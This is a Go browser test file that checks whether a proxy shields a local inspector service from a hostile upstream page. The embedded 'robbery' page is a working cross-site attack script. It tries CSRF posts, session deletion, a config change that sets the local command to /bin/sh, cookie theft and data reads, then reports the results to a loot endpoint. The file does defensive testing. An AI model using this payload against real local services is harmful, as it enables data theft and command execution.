//go:build browser

package main

import (
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"net/http/httputil"
	"net/url"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/chromedp/chromedp"
)

// robber is an upstream whose answer is a page that tries to get at the
// inspector. What it could read it brings back.
type robber struct {
	*httptest.Server
	inspector, session string
	done               chan struct{} // closed when the page has tried everything

	mu   sync.Mutex // guards the rest
	seen int        // times the page was asked for
	loot []string   // "attempt: outcome", in the order it came
}

func newRobber(t *testing.T, inspector, session string) *robber {
	r := &robber{inspector: inspector, session: session, done: make(chan struct{})}
	r.Server = httptest.NewServer(r)
	t.Cleanup(r.Close)
	return r
}

func (r *robber) ServeHTTP(w http.ResponseWriter, q *http.Request) {
	r.mu.Lock()
	defer r.mu.Unlock()
	if strings.HasSuffix(q.URL.Path, "/loot") {
		body, _ := io.ReadAll(q.Body) // what broke off brought nothing
		if string(body) == "done: all" {
			close(r.done)
			return
		}
		r.loot = append(r.loot, string(body))
		return
	}
	r.seen++
	w.Header().Set("Content-Type", "text/html")
	io.WriteString(w, strings.NewReplacer("INSPECTOR", r.inspector, "SESSION", r.session).Replace(robbery))
}

func (r *robber) brought() []string {
	r.mu.Lock()
	defer r.mu.Unlock()
	return append([]string(nil), r.loot...)
}

// asked is how often the page was asked for.
func (r *robber) asked() int {
	r.mu.Lock()
	defer r.mu.Unlock()
	return r.seen
}

// robbery is the page. Every attempt ends with a word to the server: "nothing",
// or what it got.
const robbery = `<!doctype html><html lang="en"><title>Hello</title><main><h1>A harmless answer</h1></main>
<form id="post" method="post" action="http://INSPECTOR/ui/bypass" target="inside"><input name="on" value="true"><input name="confirm" value="true"></form>
<iframe name="inside" title="inside"></iframe>
<script>
const at = "http://INSPECTOR";
const tell = (name, got) => fetch("loot", {method: "POST", body: name + ": " + (got || "nothing")});
const read = async (path, how) => { const r = await fetch(at + path, {credentials: "include", ...how}); return r.type === "opaque" ? "" : await r.text(); };
const patient = (f) => new Promise((done) => { f(done); setTimeout(() => done(""), 30000); });
const paths = ["/ui/", "/ui/sessions/SESSION", "/hf/v1/sessions", "/hf/v1/config", "/hf/v1/status", "/hf/v1/sessions/SESSION/export", "/metrics"];
const tries = {
  "change by no-cors": () => read("/ui/bypass", {method: "POST", mode: "no-cors", body: new URLSearchParams({on: "true", confirm: "true"})}),
  "delete by no-cors": () => read("/ui/sessions/SESSION/delete", {method: "POST", mode: "no-cors", body: new URLSearchParams({})}),
  "quit by no-cors": () => read("/hf/v1/quit", {method: "POST", mode: "no-cors"}),
  "code by cors": () => read("/hf/v1/login-codes", {method: "POST"}),
  "bypass by cors": () => read("/hf/v1/bypass", {method: "PUT", body: '{"on":true,"confirm":true}'}),
  "program by cors": () => read("/hf/v1/config", {method: "PUT", body: '{"engine.local.command":"/bin/sh"}'}),
  "delete by cors": () => read("/hf/v1/sessions/SESSION", {method: "DELETE"}),
  "beacon": () => { navigator.sendBeacon(at + "/ui/bypass", new URLSearchParams({on: "true"})); },
  "form": () => patient((done) => { document.querySelector("iframe").onload = (e) => { try { done(e.target.contentDocument?.body.textContent); } catch { done(""); } }; document.querySelector("#post").submit(); }),
  "frame": () => patient((done) => { const f = document.createElement("iframe"); f.onload = () => { try { done(f.contentDocument?.body.textContent); } catch { done(""); } }; f.src = at + "/ui/"; document.body.append(f); }),
  "script": () => patient((done) => { const s = document.createElement("script"); s.onload = () => done("a script ran"); s.onerror = () => done(""); s.src = at + "/hf/v1/config"; document.body.append(s); }),
  "picture": () => patient((done) => { const i = new Image(); i.onload = () => done("a picture"); i.onerror = () => done(""); i.src = at + "/ui/"; }),
  "stream": () => patient((done) => { const e = new EventSource(at + "/hf/v1/events", {withCredentials: true}); e.onopen = () => done("the stream opened"); e.onerror = () => { e.close(); done(""); }; }),
  "socket": () => patient((done) => { const w = new WebSocket("ws://INSPECTOR/hf/v1/events"); w.onopen = () => done("a socket opened"); w.onerror = () => done(""); }),
  "window": () => { const w = window.open(at + "/ui/"); return w?.document?.body?.textContent; },
  "cookie": () => document.cookie,
};
for (const p of paths) {
  tries["read " + p] = () => read(p);
  tries["read no-cors " + p] = () => read(p, {mode: "no-cors"});
}
(async () => {
  for (const [name, f] of Object.entries(tries)) {
    let got = "";
    try { got = await f(); } catch {}
    await tell(name, got);
  }
  await tell("done", "all");
})();
</script></html>`

// without is a hop before the proxy that lacks what the proxy relies on: the
// browser's own words about a request and, where bare, the policy of the answer.
func without(t *testing.T, proxy string, bare bool) *httptest.Server {
	t.Helper()
	to, err := url.Parse(proxy)
	if err != nil {
		t.Fatal(err)
	}
	hop := &httputil.ReverseProxy{
		Rewrite: func(r *httputil.ProxyRequest) {
			r.Out.URL.Scheme, r.Out.URL.Host, r.Out.Host = to.Scheme, to.Host, to.Host
			for name := range r.Out.Header {
				if strings.HasPrefix(name, "Sec-") || name == "Origin" || name == "Referer" {
					r.Out.Header.Del(name)
				}
			}
		},
		ModifyResponse: func(r *http.Response) error {
			if bare {
				r.Header.Del("Content-Security-Policy")
			}
			return nil
		},
	}
	s := httptest.NewServer(hop)
	t.Cleanup(s.Close)
	return s
}

// via: a page that came through the proxy cannot read or change anything of the
// inspector, though the browser is signed in there. Three walls stand in its
// way; each is tried with those before it taken down.
func (x *exhibit) via(b *tab) {
	thief := newRobber(b.t, x.app.Inspector, x.session)
	before := x.everything(b)
	target := "/via/" + thief.URL + "/page"

	// The proxy answers no browser window.
	b.goTo(x.app.BaseURL() + target)
	if said := eval[string](b, "document.body.textContent"); !strings.Contains(said, `"navigation"`) || thief.asked() != 0 {
		b.t.Errorf("a browser window got %.200s; the upstream was asked %d times", said, thief.asked())
	}
	// A browser that does not say what it is for gets the page without its script.
	b.goTo(without(b.t, x.app.BaseURL(), false).URL + target)
	if said := eval[string](b, "document.body.textContent"); !strings.Contains(said, "A harmless answer") {
		b.t.Errorf("the page says %.200s", said)
	}
	if got := thief.brought(); thief.asked() != 1 || len(got) != 0 {
		b.t.Errorf("asked for %d times; its script ran: %v", thief.asked(), got)
	}
	// And one whose script runs gets nothing from the inspector.
	b.goTo(without(b.t, x.app.BaseURL(), true).URL + target)
	select {
	case <-thief.done:
	case <-time.After(patience):
		b.t.Fatalf("the page's script did not end: %v", thief.brought())
	}
	x.unrobbed(b, thief.brought(), before)
}

// unrobbed judges what the page brought, and what it left.
func (x *exhibit) unrobbed(b *tab, loot []string, before string) {
	b.t.Helper()
	const attempts = 16 + 2*7
	if len(loot) != attempts {
		b.t.Errorf("%d attempts told, want %d: %v", len(loot), attempts, loot)
	}
	for _, l := range loot {
		if !strings.HasSuffix(l, ": nothing") {
			b.t.Errorf("the page got something, %.300s", l)
		}
	}
	if after := x.everything(b); after != before {
		b.t.Errorf("the page changed something:\n%s\nbefore\n%s", after, before)
	}
	b.open("/ui/") // still there, still signed in; what the browser said of the page is told by now
	b.mu.Lock()
	b.bad = nil // refusals and requests to elsewhere are the point
	b.mu.Unlock()
	b.open("/ui/sessions")
	b.clean("after the robbery")
}

// everything is what a page could have changed.
func (x *exhibit) everything(b *tab) string {
	b.t.Helper()
	v, err := x.app.engine.views().Session(b.t.Context(), x.session)
	if err != nil {
		b.t.Fatal("the session is gone: ", err)
	}
	var out strings.Builder
	for _, f := range x.app.settings.Current().Fields() {
		fmt.Fprintf(&out, "%s = %s\n", f.Key, f.Literal())
	}
	fmt.Fprintf(&out, "session %s, %d elements\n", v.ID, v.Elements)
	return out.String()
}

// goTo opens any address and waits for a document.
func (b *tab) goTo(address string) {
	b.t.Helper()
	b.do(chromedp.Navigate(address))
	b.until(`document.readyState === "complete"`)
}
